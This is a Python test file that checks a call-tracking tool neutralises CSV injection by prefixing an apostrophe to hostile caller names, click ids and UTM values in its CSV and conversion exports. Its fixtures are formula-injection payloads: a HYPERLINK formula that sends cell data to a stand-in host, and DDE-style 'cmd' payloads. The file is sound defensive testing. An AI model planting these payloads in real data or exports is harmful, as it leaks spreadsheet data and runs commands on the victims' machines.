"""CSV injection: what strangers typed never starts a spreadsheet formula in any CSV calltrack writes.

A hostile caller name (from the carrier, through the real route), a hostile click id and UTM values
(from a landing page's URL, through the real DNI API) end up in `calls list --format csv` and in the
conversion files; each such cell carries a leading apostrophe (OWASP's CSV Injection guidance), while
numbers and the caller's E.164 number stay raw.  On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import urllib.parse
from pathlib import Path

import httpx
from sqlalchemy import Engine, update
from sqlalchemy.orm import sessionmaker

from config import RecorderSettings, Settings
from schema.models import Call
from tests.conftest import Cli
from tracking.accounts import add_account, add_source
from tracking.csv_cells import FORMULA_START
from tracking.pools import add_numbers, create_pool
from tracking.routing import CallRouter, RouteRequest, RouteStore
from tracking.sites import add_site
from tracking.source_rules import add_rule
from web.app import create_app

NAME = '=HYPERLINK("http://evil.test/?d="&A1,"Click me")'
CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
GCLID = "-2+3+cmd|' /C calc'!A0"
TERM = "\t=1+1"
CONTENT = "+1-2 call now"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_START):
                float(value)  # only a plain number (or an E.164 number) may start with a sign


async def _hostile_call(cli: Cli, engine: Engine, settings: Settings, tmp_path: Path) -> int:
    site = "https://www.acme.test"
    factory = sessionmaker(bind=engine, expire_on_commit=False)
    with factory.begin() as s:
        account = add_account(s, "Acme", "America/New_York")
        add_source(s, "Acme", "Google Ads")
        create_pool(s, settings, "ads", "Acme", 30, source="Google Ads")
        add_numbers(s, settings, "ads", "Acme", ["+14045550151"], "PJSIP/100")
        add_site(s, "Acme", site)
        add_rule(s, "Acme", "param", "gclid", "Google Ads")
        key = account.public_key
    start = dt.datetime.now(dt.UTC).replace(microsecond=0) - dt.timedelta(hours=2)
    app = create_app(settings, engine, clock=lambda: start, cache_seconds=0)
    query = urllib.parse.urlencode({"gclid": GCLID, "utm_campaign": CAMPAIGN, "utm_term": TERM, "utm_content": CONTENT})
    transport = httpx.ASGITransport(app=app, client=("198.51.100.7", 40000))
    async with httpx.AsyncClient(transport=transport, base_url="http://dni.test") as client:
        answer = await client.post(
            "/dni/v1/session",
            json={"account": key, "visitor": None, "url": f"{site}/?{query}", "referrer": ""},
            headers={"Origin": site},
        )
    assert answer.status_code == 200, answer.text
    cfg = settings.replace(recorder=RecorderSettings(spool_dir=tmp_path / "monitor"))
    store = RouteStore(cfg.database.url)
    try:
        at = start + dt.timedelta(minutes=1)
        decision = CallRouter(cfg, store).run(
            RouteRequest("4045550151", "+14045551234", NAME, "pbx1", "9.1", "9.1", at)
        )
    finally:
        store.close()
    assert decision.call_id is not None
    with factory.begin() as s:  # the listener's part: answered, 95 s of talk
        s.execute(
            update(Call)
            .where(Call.id == decision.call_id)
            .values(answered_at=at, ended_at=at + dt.timedelta(seconds=95), talk_time=95.0, disposition="answered")
        )
    return decision.call_id


async def test_hostile_caller_name_and_utm_values_start_no_formula_in_the_calls_csv(
    cli: Cli, engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    await _hostile_call(cli, engine, settings, tmp_path)
    text = cli.ok("calls", "list", "--format", "csv").output
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["caller_name"] == "'" + NAME  # a spreadsheet shows the text and runs nothing
    assert row["visit_utm_campaign"] == "'" + CAMPAIGN
    assert row["visit_gclid"] == "'" + GCLID
    assert row["visit_utm_term"] == "'" + TERM
    assert row["visit_utm_content"] == "'" + CONTENT
    # a phone number and the figures stay raw: the + of E.164, numbers a sheet can sum
    assert row["caller_number"] == "+14045551234" and row["talk_time"] == "95.0"
    _no_formula(_rows(text))
    # the JSON listing keeps the exact values (no apostrophe: JSON is not run by spreadsheets)
    import json

    (shown,) = json.loads(cli.ok("calls", "list", "--format", "json").output)
    assert shown["caller_name"] == NAME


async def test_a_hostile_click_id_and_campaign_start_no_formula_in_the_conversion_files(
    cli: Cli, engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    await _hostile_call(cli, engine, settings, tmp_path)
    base = ["conversions", "export", "--account", "Acme", "--since", "1d", "--value", "80"]
    generic = _rows(cli.ok(*base, "--format", "csv").output)
    header, row = generic[0], generic[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["gclid"] == "'" + GCLID and cells["click_id"] == "'" + GCLID
    assert cells["campaign"] == "'" + CAMPAIGN
    assert cells["conversion_value"] == "80.00" and cells["talk_time"] == "95"
    _no_formula(generic)
    google = _rows(cli.ok(*base, "--format", "google-click").output)
    assert google[2][0] == "'" + GCLID
    _no_formula(google)
